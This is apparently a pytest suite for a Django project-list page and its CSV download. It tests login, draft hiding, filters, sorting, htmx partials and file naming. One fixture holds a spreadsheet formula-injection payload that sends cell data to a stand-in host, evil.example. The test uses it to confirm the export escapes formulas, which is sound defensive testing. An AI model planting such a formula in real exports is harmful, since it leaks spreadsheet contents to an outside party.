from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from portfolio.models import Status
from tests.builders import make_project

URL = reverse("project_list")
CSV_URL = reverse("project_list_csv")


def keys(response) -> list[str]:
    return [project.key for project in response.context["page"].object_list]


def test_it_requires_login(client, db):
    response = client.get(URL)
    assert response.status_code == 302
    assert response.url.startswith(reverse("login"))


def test_it_lists_submitted_projects_and_only_my_drafts(client, alice, rita, bob):
    make_project(key="SUB", researcher=rita, product_manager=bob)
    make_project(key="MY-DRAFT", researcher=alice, status=Status.DRAFT)
    make_project(key="HER-DRAFT", researcher=rita, status=Status.DRAFT)
    client.force_login(alice)
    response = client.get(URL)
    assert response.status_code == 200
    assert keys(response) == ["MY-DRAFT", "SUB"]
    assert "HER-DRAFT" not in response.content.decode()


def test_it_hides_others_drafts_even_from_admins(client, adam, alice):
    make_project(key="HER-DRAFT", researcher=alice, status=Status.DRAFT)
    client.force_login(adam)
    assert keys(client.get(URL)) == []


def test_it_searches_key_title_and_emails(client, alice, rita, bob, pete):
    make_project(key="CHURN-1", title="Predict churn", researcher=alice, product_manager=bob)
    make_project(key="FRAUD-1", title="Catch fraud", researcher=rita, product_manager=pete)
    client.force_login(alice)
    assert keys(client.get(URL, {"q": "churn"})) == ["CHURN-1"]
    assert keys(client.get(URL, {"q": "fraud-1"})) == ["FRAUD-1"]
    assert keys(client.get(URL, {"q": "rita@"})) == ["FRAUD-1"]
    assert keys(client.get(URL, {"q": "pete@example.com"})) == ["FRAUD-1"]
    assert keys(client.get(URL, {"q": "nothing-like-it"})) == []


def test_it_filters_by_status_gate_bucket_type_and_pm(client, alice, bob, pete):
    make_project(key="A", bucket="revenue", research_type="science", product_manager=bob)
    make_project(key="B", bucket="revenue", product_manager=pete, current_gate=2)
    make_project(key="C", bucket="efficiency", status=Status.ON_HOLD, product_manager=bob)
    make_project(key="D", status=Status.KILLED, current_gate=None, product_manager=bob)
    client.force_login(alice)
    assert keys(client.get(URL, {"bucket": "revenue"})) == ["A", "B"]
    assert keys(client.get(URL, {"status": "on_hold"})) == ["C"]
    assert keys(client.get(URL, {"gate": "2"})) == ["B"]
    assert keys(client.get(URL, {"research_type": "science"})) == ["A"]
    assert keys(client.get(URL, {"pm": "pete@example.com"})) == ["B"]
    assert keys(client.get(URL, {"bucket": "revenue", "pm": "bob@example.com"})) == ["A"]


def test_it_names_a_bad_filter_and_lists_nothing(client, alice, bob):
    # Not every project, as if the filters were not there (test_project_list_unreadable_filter).
    make_project(key="A", product_manager=bob)
    client.force_login(alice)
    response = client.get(URL, {"status": "bogus", "gate": "9"})
    assert response.status_code == 200
    assert "page" not in response.context
    assert response.context["filter_errors"] == [
        "Status: not one of the listed statuses.",
        "Gate: not one of the listed gates.",
    ]


@pytest.mark.parametrize(
    ("sort", "expected"),
    [
        ("key", ["A", "B", "C"]),
        ("-key", ["C", "B", "A"]),
        ("expected", ["B", "C", "A"]),
        ("-expected", ["A", "C", "B"]),
        ("title", ["C", "A", "B"]),
        ("-spend", ["B", "A", "C"]),
    ],
)
def test_it_sorts_by_any_column(client, alice, bob, sort, expected):
    wide = {"projected_low": Decimal(0), "projected_high": Decimal(1000)}
    make_project(key="A", title="Middle", projected_expected=Decimal(900), spend_total=5, **wide)
    make_project(key="B", title="Zebra", projected_expected=Decimal(100), spend_total=9, **wide)
    make_project(key="C", title="Apple", projected_expected=Decimal(300), spend_total=1, **wide)
    client.force_login(alice)
    response = client.get(URL, {"sort": sort})
    assert keys(response) == expected


def test_it_marks_the_sorted_column_and_links_to_the_reverse_order(client, alice, project):
    client.force_login(alice)
    body = client.get(URL, {"sort": "title", "bucket": "efficiency"}).content.decode()
    assert 'aria-sort="ascending"' in body
    assert (
        "?sort=-title&amp;bucket=efficiency" in body or "bucket=efficiency&amp;sort=-title" in body
    )


def test_it_falls_back_to_key_order_for_an_unknown_sort(client, alice, bob):
    make_project(key="B")
    make_project(key="A")
    client.force_login(alice)
    response = client.get(URL, {"sort": "password"})
    assert keys(response) == ["A", "B"]
    assert "unknown sort order" in response.content.decode()


def test_it_paginates_25_per_page_keeping_the_filters(client, alice, bob):
    for n in range(30):
        make_project(key=f"R-{n:02d}", bucket="revenue")
    make_project(key="E-00", bucket="efficiency")
    client.force_login(alice)
    first = client.get(URL, {"bucket": "revenue"})
    assert len(keys(first)) == 25
    assert "bucket=revenue&amp;page=2" in first.content.decode()
    second = client.get(URL, {"bucket": "revenue", "page": "2"})
    assert keys(second) == [f"R-{n:02d}" for n in range(25, 30)]
    assert client.get(URL, {"page": "nonsense"}).status_code == 200


def test_it_renders_only_the_table_for_htmx(client, alice, project):
    client.force_login(alice)
    response = client.get(URL, {"sort": "-key"}, headers={"HX-Request": "true"})
    body = response.content.decode()
    assert response.status_code == 200
    assert body.lstrip().startswith('<div id="project-table"')
    assert "<html" not in body
    assert project.key in body
    # The form's hidden sort field follows the table (an out-of-band swap).
    assert 'id="sort-input" value="-key" hx-swap-oob="true"' in body
    assert "HX-Request" in response["Vary"]


def test_it_renders_the_whole_page_for_an_htmx_history_restore(client, alice, project):
    client.force_login(alice)
    response = client.get(URL, headers={"HX-Request": "true", "HX-History-Restore-Request": "true"})
    assert "<html" in response.content.decode()


def test_it_renders_the_whole_page_without_htmx(client, alice, project):
    client.force_login(alice)
    body = client.get(URL).content.decode()
    assert "<html" in body
    assert 'hx-get="/projects/"' in body
    assert 'action="/projects/"' in body


@pytest.mark.parametrize("size", [3, 40])
def test_it_uses_a_constant_number_of_queries(
    client, alice, bob, pete, size, django_assert_max_num_queries
):
    for n in range(size):
        make_project(key=f"K-{n:03d}", product_manager=bob if n % 2 else pete)
    client.force_login(alice)
    # Session and user; roles and permissions for the navigation; the product
    # managers and the researchers for the filters; the count and the page; the header's
    # unread notifications.
    with django_assert_max_num_queries(10):
        client.get(URL, {"sort": "-pm", "q": "K-"})


def test_csv_downloads_the_filtered_list(client, alice, bob):
    make_project(key="R-1", bucket="revenue", title="Grow, fast")
    make_project(key="E-1", bucket="efficiency")
    make_project(key="MINE", bucket="revenue", researcher=alice, status=Status.DRAFT)
    client.force_login(alice)
    response = client.get(CSV_URL, {"bucket": "revenue", "sort": "-key"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["key"] for row in rows] == ["R-1", "MINE"]
    assert rows[0]["title"] == "Grow, fast"
    assert rows[0]["researcher"] == "alice@example.com"
    assert rows[0]["product_manager"] == "bob@example.com"


def filename(response) -> str:
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="') and disposition.endswith('"')
    return disposition.removeprefix('attachment; filename="').removesuffix('"')


def test_csv_is_named_for_the_day_alone_when_nothing_is_filtered(client, alice):
    client.force_login(alice)
    response = client.get(CSV_URL, {"sort": "-key"})
    assert filename(response) == f"projects-{timezone.localdate():%Y-%m-%d}.csv"


def test_csv_is_named_with_every_filter_applied_as_dashboard_downloads_are(client, alice, bob):
    client.force_login(alice)
    response = client.get(
        CSV_URL,
        {
            "q": "Triage, fast!",
            "status": "on_hold",
            "gate": "2",
            "bucket": "new_category",
            "research_type": "science",
            "pm": bob.email,
            "sort": "-spend",
            "page": "3",
        },
    )
    assert filename(response) == (
        f"projects-{timezone.localdate():%Y-%m-%d}-search-triage-fast-on-hold-gate-2"
        "-new-category-science-bob-example-com.csv"
    )


def test_csv_refuses_a_filter_it_cannot_read(client, alice):
    # Not every row exported under a name that claims the filter.
    client.force_login(alice)
    response = client.get(CSV_URL, {"status": "zombie", "gate": "9", "bucket": "revenue"})
    assert response.status_code == 400
    assert response.content.decode() == (
        "These filters cannot be applied: Status: not one of the listed statuses."
        " Gate: not one of the listed gates."
    )


def test_csv_name_keeps_the_start_of_a_long_search(client, alice):
    client.force_login(alice)
    response = client.get(CSV_URL, {"q": "model " * 30})
    name = filename(response)
    assert name.startswith(f"projects-{timezone.localdate():%Y-%m-%d}-search-model-model-")
    assert len(name) < 80
    assert "--" not in name and "-.csv" not in name


def test_csv_requires_login(client, db):
    assert client.get(CSV_URL).status_code == 302


def test_csv_leaves_out_others_drafts(client, alice, rita):
    make_project(key="HERS", researcher=rita, status=Status.DRAFT)
    client.force_login(alice)
    body = b"".join(client.get(CSV_URL).streaming_content).decode()
    assert "HERS" not in body


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_csv_keeps_text_that_looks_like_a_formula_as_text(client, alice, bob):
    make_project(key="EVIL", title=HYPERLINK, researcher=alice, product_manager=bob)
    make_project(key="PLUS", title="+1 for growth", researcher=alice, product_manager=bob)
    client.force_login(bob)

    response = client.get(CSV_URL)

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    titles = {row["key"]: row["title"] for row in rows}
    assert titles == {"EVIL": "'" + HYPERLINK, "PLUS": "'+1 for growth"}
    # Numbers are not text: never quoted.
    assert all(not row["projected_low"].startswith("'") for row in rows)
